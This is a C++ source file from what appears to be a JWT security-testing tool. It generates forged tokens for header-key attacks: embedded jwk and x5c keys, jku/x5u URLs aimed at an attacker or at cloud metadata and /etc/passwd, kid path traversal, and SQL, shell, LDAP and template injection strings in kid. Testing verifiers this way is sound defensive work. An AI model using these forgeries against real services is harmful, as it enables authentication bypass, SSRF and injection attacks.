// SPDX-FileCopyrightText: Claimsmith developers
// SPDX-License-Identifier: GPL-3.0-or-later
#include "base/base64.h"
#include "crypto/certificate.h"
#include "document/json.h"
#include "jose/forge/groups.h"
#include "jose/forge/subject.h"
#include "jose/jwk.h"

#include <array>

namespace claimsmith::jose::forge {
namespace {

using document::Object;
using document::Value;

/// The attacker's own key, with a certificate that nobody signed. Made once: its signatures need not be told apart.
const crypto::TlsIdentity* ownIdentity()
{
    static const auto identity = crypto::TlsIdentity::selfSigned();
    return identity ? &*identity : nullptr;
}

std::optional<Key> ownKey(std::string id = {})
{
    const crypto::TlsIdentity* identity = ownIdentity();
    auto key = identity == nullptr
                   ? Result<Key>(Error{.code = JoseErrorCode::NoKeys})
                   : Key::fromPrivate(identity->key(), {.id = std::move(id), .use = {}, .algorithm = {}});
    return key ? std::optional(std::move(*key)) : std::nullopt;
}

/// Signed with the attacker's key (P-256), under a header that points to it.
void addOwn(std::vector<Forgery>& list, const Subject& subject, std::string label, Object header)
{
    header.set("alg", "ES256");
    const auto key = ownKey();
    if (!key)
        return;
    if (auto token = withKey(document::toJson(header), subject.freshPayload(), *key, info(Algorithm::ES256)))
        list.push_back({std::move(label), std::move(*token)});
}

std::vector<Forgery> embeddedKey(const Subject& subject, const Knowledge&)
{
    std::vector<Forgery> list;
    const auto key = ownKey();
    if (!key)
        return list;
    const Value open = writeJwk(*key->publicPart(), KeyParts::Public);
    addOwn(list, subject, "a public key", subject.headerWith({{"jwk", open}}));
    if (const Value* kid = subject.header().find("kid")) {
        Object named = *open.asObject();
        named.set("kid", *kid);
        addOwn(list, subject, "under the kid of the right one", subject.headerWith({{"jwk", named}}));
    }
    addOwn(list, subject, "a private key", subject.headerWith({{"jwk", writeJwk(*key, KeyParts::Private)}}));
    const Object secret{{"kty", "oct"}, {"k", "c2VjcmV0"}};
    list.push_back({"a secret", withHmac(subject.headerWith({{"alg", "HS256"}, {"jwk", secret}}),
                                         subject.freshPayload(), "secret")});
    return list;
}

std::vector<Forgery> embeddedCertificate(const Subject& subject, const Knowledge&)
{
    std::vector<Forgery> list;
    if (const crypto::TlsIdentity* identity = ownIdentity())
        addOwn(list, subject, "self-signed",
               subject.headerWith({{"x5c", document::Array{toBase64(identity->certificate().der())}}}));
    return list;
}

/// URLs that lead to the attacker, plainly or past a check of the beginning.
std::vector<std::pair<std::string, std::string>> foreignUrls(const Subject& subject, const Knowledge& knowledge,
                                                             std::string_view member)
{
    std::vector<std::pair<std::string, std::string>> urls{{"the attacker's", knowledge.ownUrl}};
    const Value* value = subject.header().find(member);
    const std::string* trusted = value == nullptr ? nullptr : value->asString();
    const std::string base = trusted != nullptr ? *trusted : "https://issuer.example/keys.json";
    const std::size_t scheme = knowledge.ownUrl.find("://");
    const std::string place = scheme == std::string::npos ? knowledge.ownUrl : knowledge.ownUrl.substr(scheme + 3);
    const std::size_t hostEnd = base.find('/', base.find("://") + 3);
    const std::string origin = base.substr(0, hostEnd);
    urls.emplace_back("the trusted host as user name", origin + '@' + place);
    urls.emplace_back("the trusted one as fragment", knowledge.ownUrl + '#' + base);
    urls.emplace_back("the trusted one as query", knowledge.ownUrl + "?" + base);
    urls.emplace_back("a backslash", origin + "\\@" + place);
    urls.emplace_back("a file", "file:///etc/passwd");
    urls.emplace_back("the cloud's metadata", "http://169.254.169.254/latest/meta-data/");
    return urls;
}

std::vector<Forgery> foreignUrl(const Subject& subject, const Knowledge& knowledge, std::string_view member)
{
    std::vector<Forgery> list;
    for (const auto& [label, url] : foreignUrls(subject, knowledge, member)) {
        Object header = subject.header();
        header.set(member, url);
        header.set("kid", "claimsmith-forged");
        addOwn(list, subject, label, std::move(header));
    }
    return list;
}

std::vector<Forgery> keySetUrl(const Subject& subject, const Knowledge& knowledge)
{
    return foreignUrl(subject, knowledge, "jku");
}

std::vector<Forgery> certificateUrl(const Subject& subject, const Knowledge& knowledge)
{
    return foreignUrl(subject, knowledge, "x5u");
}

struct KidForm
{
    const char* label;
    std::string_view kid;
    std::string_view secret; ///< what the verifier would read there
};

std::vector<Forgery> withKids(const Subject& subject, std::span<const KidForm> forms)
{
    std::vector<Forgery> list;
    for (const KidForm& form : forms)
        list.push_back({form.label, withHmac(subject.headerWith({{"alg", "HS256"}, {"kid", form.kid}}),
                                             subject.freshPayload(), form.secret)});
    return list;
}

std::vector<Forgery> kidPath(const Subject& subject, const Knowledge&)
{
    static constexpr std::array<KidForm, 5> forms{{
        {"/dev/null", "/dev/null", ""},
        {"up to /dev/null", "../../../../../../../../dev/null", ""},
        {"up, percent-encoded", "..%2f..%2f..%2f..%2f..%2fdev%2fnull", ""},
        {"a file of known content", "../../../../../../../../proc/sys/kernel/randomize_va_space", "2\n"},
        {"cut off by a NUL", std::string_view("../../../../dev/null\0.pem", 25), ""},
    }};
    return withKids(subject, forms);
}

std::vector<Forgery> kidInjection(const Subject& subject, const Knowledge&)
{
    static constexpr std::array<KidForm, 6> forms{{
        {"SQL that selects the secret", "x' UNION SELECT 'claimsmith' -- ", "claimsmith"},
        {"SQL that selects it, with a comment", "x' UNION SELECT 'claimsmith';#", "claimsmith"},
        {"SQL that is always true", "' OR '1'='1", ""},
        {"a shell's pipe", "key|true", ""},
        {"LDAP", "*)(objectClass=*", ""},
        {"a template", "{{7*7}}${7*7}", ""},
    }};
    return withKids(subject, forms);
}

std::vector<Forgery> kidType(const Subject& subject, const Knowledge&)
{
    std::vector<Forgery> list;
    const auto add = [&](const char* label, const Value& kid) {
        list.push_back(
            {label, withHmac(subject.headerWith({{"alg", "HS256"}, {"kid", kid}}), subject.freshPayload(), "")});
    };
    add("empty", "");
    add("null", nullptr);
    add("a number", 0);
    add("a list", document::Array{"a"});
    add("an object", Object{{"$ne", ""}});
    add("8 KiB", std::string(8192, 'k'));
    return list;
}

constexpr auto error = LintSeverity::Error;

constexpr std::array<Variant, 7> list{{
    {"jwk-embedded", "key", "Key in the token",
     "The verifier trusts a key because the token brings it (CVE-2018-0114).", error, "RFC 8725 §3.10", false,
     &embeddedKey},
    {"x5c-embedded", "key", "Certificate in the token", "The verifier trusts a certificate that nobody signed.", error,
     "RFC 7515 §4.1.6", false, &embeddedCertificate},
    {"jku-foreign", "key", "Key set at a foreign URL",
     "The verifier fetches keys, and other things, from where the token says.", error, "RFC 8725 §3.10", false,
     &keySetUrl},
    {"x5u-foreign", "key", "Certificate at a foreign URL",
     "The verifier fetches certificates, and other things, from where the token says.", error, "RFC 8725 §3.10", false,
     &certificateUrl},
    {"kid-path", "key", "Path in kid", "kid is used as a file name: any file of known content is a key.", error,
     "RFC 8725 §3.10", false, &kidPath},
    {"kid-injection", "key", "Query or command in kid", "kid reaches a data base, a shell or a template as it is.",
     error, "RFC 8725 §3.10", false, &kidInjection},
    {"kid-type", "key", "kid of another type", "A kid that is empty, no text or huge is not expected.",
     LintSeverity::Warning, "RFC 7515 §4.1.4", false, &kidType},
}};

} // namespace

std::span<const Variant> headerKeyVariants()
{
    return list;
}

} // namespace claimsmith::jose::forge
